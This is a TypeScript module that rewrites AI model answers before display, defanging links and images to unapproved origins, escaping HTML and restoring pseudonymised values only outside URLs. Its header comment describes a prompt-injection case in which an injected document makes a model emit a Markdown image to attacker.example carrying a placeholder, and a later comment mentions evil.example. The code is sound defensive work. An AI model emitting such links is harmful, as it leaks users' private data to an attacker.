import { t } from "../i18n/index.js";

/**
 * A model's answer is text from outside: a prompt injected through a
 * document can make it write `![x](https://attacker.example/?q=[EMAIL_1])`,
 * which a client fetches as soon as it renders it. Every answer is therefore
 * rewritten before anyone reads it (page, `/v1`, storage, exports):
 * - placeholders are put back only in text that is read, never in a URL
 *   (link, image, autolink or bare address), so a restored value can never
 *   travel in a request;
 * - images and links to an origin the configuration does not allow are kept
 *   as visible text (the address in a code span), not as Markdown to follow;
 * - raw HTML is escaped (`<` becomes `&lt;`), outside code.
 * The scan is one pass over each line with matching brackets found by a
 * stack, so its cost grows linearly with the answer, whatever it holds.
 */
export interface AnswerRules {
  /** Origins (`https://www.service-public.fr`) whose links and images are kept. */
  allowedOrigins: ReadonlySet<string>;
  /** Puts pseudonymised values back in text that is read (none: text as is). */
  restore?: (text: string) => string;
}

/** A partial line longer than this is written out even if a construct is still open. */
const MAX_HELD = 4_096;
/** Link text and destinations longer than this are read as plain text. */
const MAX_LINK_PART = 2_048;

const URL_SCHEME = /(?:https?:\/\/|ftp:\/\/|\/\/(?=[a-z0-9])|www\.)/iy;
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,31}:[^\s<>]{1,2048})>/iy;
const HTML_START = /<(?:[a-z/!?])/iy;
const FENCE = /^ {0,3}(`{3,}|~{3,})/;
const DEFINITION = /^( {0,3}\[[^\]]{1,999}\]):[ \t]*(\S+)(.*)$/;
const WORD = /[\p{L}\p{N}_]/u;

/** The whole answer, rewritten (see the module's comment). */
export function sanitiseAnswer(text: string, rules: AnswerRules): string {
  const stream = new AnswerStream(rules);
  return stream.push(text) + stream.end();
}

/**
 * The same rewriting for an answer that arrives in pieces: whole lines are
 * written at once; within a line, text is held back only while a link, a
 * code span, an address or a placeholder could still be open (never more
 * than MAX_HELD characters), so the agent sees the answer as it comes.
 */
export class AnswerStream {
  private pending = "";
  private fence: string | null = null;
  /** The pending text continues a line already partly written. */
  private midLine = false;

  constructor(private readonly rules: AnswerRules) {}

  push(chunk: string): string {
    this.pending += chunk;
    let out = "";
    const lastNewline = this.pending.lastIndexOf("\n");
    if (lastNewline >= 0) {
      const lines = this.pending.slice(0, lastNewline).split("\n");
      this.pending = this.pending.slice(lastNewline + 1);
      for (const line of lines) out += `${this.line(line, true)}\n`;
    }
    const cut = this.safeCut(this.pending);
    if (cut > 0) {
      out += this.line(this.pending.slice(0, cut), false);
      this.pending = this.pending.slice(cut);
    } else if (this.pending.length > MAX_HELD) {
      // A construct that never closes: written out, with nothing restored in it.
      out += this.line(this.pending, false, false);
      this.pending = "";
    }
    return out;
  }

  end(): string {
    const rest = this.pending.length > 0 ? this.line(this.pending, true) : "";
    this.pending = "";
    this.midLine = false;
    return rest;
  }

  /** Rewrites a line, or the part of one that `complete` says does not end it. */
  private line(text: string, complete: boolean, restoring = true): string {
    const atStart = !this.midLine;
    this.midLine = !complete;
    const restore = restoring ? this.rules.restore : undefined;
    const fence = atStart ? FENCE.exec(text)?.[1] : undefined;
    if (this.fence !== null) {
      if (fence && fence[0] === this.fence[0] && fence.length >= this.fence.length) {
        this.fence = null;
      }
      return restoreOutsideUrls(text, restore);
    }
    if (fence) {
      this.fence = fence;
      return restoreOutsideUrls(text, restore);
    }
    const definition = atStart ? DEFINITION.exec(text) : null;
    if (definition) {
      const [, label = "", destination = "", rest = ""] = definition;
      return isAllowed(destination, this.rules.allowedOrigins)
        ? text
        : `${label} : ${code(destination)}${inline(rest, this.rules, restore, 0)}`;
    }
    return inline(text, this.rules, restore, 0);
  }

  /**
   * Where the pending part of a line can be cut: after its last blank at
   * which no bracket, parenthesis or code span is open, and never in a line
   * whose start could still make it a code fence or a link definition.
   */
  private safeCut(text: string): number {
    if (!this.midLine && /^ {0,3}[`~[]/.test(text)) return 0;
    // In code, nothing but an address is protected, and none spans a blank.
    if (this.fence !== null) return text.lastIndexOf(" ") + 1;
    let brackets = 0;
    let parens = 0;
    let ticks = 0;
    let cut = 0;
    for (let index = 0; index < text.length; index++) {
      const char = text[index];
      if (char === "`") ticks += 1;
      else if (ticks % 2 === 1) continue;
      else if (char === "[") brackets += 1;
      else if (char === "]") brackets = Math.max(0, brackets - 1);
      else if (char === "(") parens += 1;
      else if (char === ")") parens = Math.max(0, parens - 1);
      else if ((char === " " || char === "\t") && brackets === 0 && parens === 0) {
        cut = index + 1;
      }
    }
    return cut;
  }
}

/** Whether a link's destination is an http(s) address on an allowed origin. */
function isAllowed(destination: string, origins: ReadonlySet<string>): boolean {
  if (origins.size === 0) return false;
  const address = destination.replace(/^<|>$/g, "").split(/\s/)[0] ?? "";
  try {
    const url = new URL(/^www\./i.test(address) ? `https://${address}` : address);
    return (url.protocol === "https:" || url.protocol === "http:") && origins.has(url.origin);
  } catch {
    return false;
  }
}

/** Text shown as code: an address kept visible, never followed. */
function code(text: string): string {
  const flat = text.replace(/[\r\n]+/g, " ");
  const longest = Math.max(0, ...(flat.match(/`+/g) ?? []).map((run) => run.length));
  const fence = "`".repeat(longest + 1);
  return longest > 0 ? `${fence} ${flat} ${fence}` : `${fence}${flat}${fence}`;
}

/**
 * Where the address starting at `from` ends, or -1 when none starts there:
 * a scheme, `www.`, or a domain followed by a path (`evil.example/?q=…`,
 * which many clients turn into a link). Only tried where a word starts.
 */
function urlAt(text: string, from: number): number {
  if (from > 0 && /[\p{L}\p{N}_.\-/@]/u.test(text[from - 1] as string)) return -1;
  URL_SCHEME.lastIndex = from;
  if (URL_SCHEME.test(text)) return urlEnd(text, from);
  let end = from;
  let lastDot = -1;
  while (end < text.length && /[A-Za-z0-9.-]/.test(text[end] as string)) {
    if (text[end] === ".") lastDot = end;
    end += 1;
  }
  const domain = lastDot > from && /^[A-Za-z]{2,24}$/.test(text.slice(lastDot + 1, end));
  return domain && text[end] === "/" ? urlEnd(text, from) : -1;
}

/** The end of a bare address starting at `from`: up to a blank, without trailing punctuation. */
function urlEnd(text: string, from: number): number {
  let end = from;
  while (end < text.length && !/[\s<>`"]/.test(text[end] as string)) end += 1;
  // A closing bracket belongs to an address that opens one ("…/?q=[EMAIL_1]").
  const bracketed = text.slice(from, end).includes("[");
  while (end > from && /[.,;:!?)\]'»]/.test(text[end - 1] as string)) {
    if (text[end - 1] === "]" && bracketed) break;
    end -= 1;
  }
  return end;
}

/** Restores placeholders in a text, leaving every address in it as written. */
function restoreOutsideUrls(text: string, restore: ((text: string) => string) | undefined): string {
  if (!restore) return text;
  let out = "";
  let plain = 0;
  for (let index = 0; index < text.length; index++) {
    if (!WORD.test(text[index] as string) && text[index] !== "/") continue;
    const end = urlAt(text, index);
    if (end < 0) continue;
    out += restore(text.slice(plain, index)) + text.slice(index, end);
    plain = end;
    index = end - 1;
  }
  return out + restore(text.slice(plain));
}

/** For each opening character, the index of the one that closes it on the same line (-1: none). */
function matching(text: string, open: string, close: string): Int32Array {
  const pairs = new Int32Array(text.length).fill(-1);
  const stack: number[] = [];
  for (let index = 0; index < text.length; index++) {
    if (text[index] === open) stack.push(index);
    else if (text[index] === close && stack.length > 0) {
      pairs[stack.pop() as number] = index;
    }
  }
  return pairs;
}

/** For each run of backticks, where the next run of the same length starts (-1: none). */
function codeSpans(text: string): Map<number, number> {
  const runs: { at: number; length: number }[] = [];
  for (let index = 0; index < text.length; ) {
    if (text[index] !== "`") {
      index += 1;
      continue;
    }
    let end = index;
    while (text[end] === "`") end += 1;
    runs.push({ at: index, length: end - index });
    index = end;
  }
  const closes = new Map<number, number>();
  const open = new Map<number, number>();
  for (const run of runs) {
    const opened = open.get(run.length);
    if (opened !== undefined) {
      closes.set(opened, run.at);
      open.delete(run.length);
    } else open.set(run.length, run.at);
  }
  return closes;
}

/** Rewrites one line's inline text (links, images, code spans, addresses, HTML). */
function inline(
  text: string,
  rules: AnswerRules,
  restore: ((text: string) => string) | undefined,
  depth: number,
): string {
  if (text.length === 0) return text;
  const brackets = matching(text, "[", "]");
  const parens = matching(text, "(", ")");
  const spans = codeSpans(text);
  let out = "";
  let plain = 0;
  const flush = (to: number) => {
    const part = text.slice(plain, to);
    out += restore ? restore(part) : part;
  };
  let index = 0;
  while (index < text.length) {
    const char = text[index] as string;
    if (char === "`") {
      let run = index;
      while (text[run] === "`") run += 1;
      const close = spans.get(index);
      if (close !== undefined) {
        const end = close + (run - index);
        flush(index);
        out += restoreOutsideUrls(text.slice(index, end), restore);
        index = plain = end;
      } else index = run;
      continue;
    }
    const image = char === "!" && text[index + 1] === "[";
    if ((char === "[" || image) && depth < 2) {
      const open = image ? index + 1 : index;
      const close = brackets[open] ?? -1;
      const paren = close + 1;
      const end = close >= 0 && text[paren] === "(" ? (parens[paren] ?? -1) : -1;
      if (end > 0 && close - open <= MAX_LINK_PART && end - paren <= MAX_LINK_PART) {
        const label = inline(text.slice(open + 1, close), rules, restore, depth + 1);
        const destination = text.slice(paren + 1, end).trim();
        flush(index);
        if (isAllowed(destination, rules.allowedOrigins)) {
          out += `${image ? "!" : ""}[${label}](${destination})`;
        } else if (image) {
          const hidden = t("answer.image_hidden", { url: code(destination) });
          out += label ? `${label} ${hidden}` : hidden;
        } else {
          out += label ? `${label} (${code(destination)})` : code(destination);
        }
        index = plain = end + 1;
        continue;
      }
    }
    if (char === "<") {
      AUTOLINK.lastIndex = index;
      const autolink = AUTOLINK.exec(text);
      if (autolink) {
        const address = autolink[1] as string;
        flush(index);
        out += isAllowed(address, rules.allowedOrigins) ? autolink[0] : code(address);
        index = plain = index + autolink[0].length;
        continue;
      }
      HTML_START.lastIndex = index;
      if (HTML_START.test(text)) {
        flush(index);
        out += "&lt;";
        index = plain = index + 1;
        continue;
      }
    }
    if (WORD.test(char) || char === "/") {
      const end = urlAt(text, index);
      if (end > index) {
        const address = text.slice(index, end);
        flush(index);
        out += isAllowed(address, rules.allowedOrigins) ? address : code(address);
        index = plain = end;
        continue;
      }
    }
    index += 1;
  }
  flush(text.length);
  return out;
}
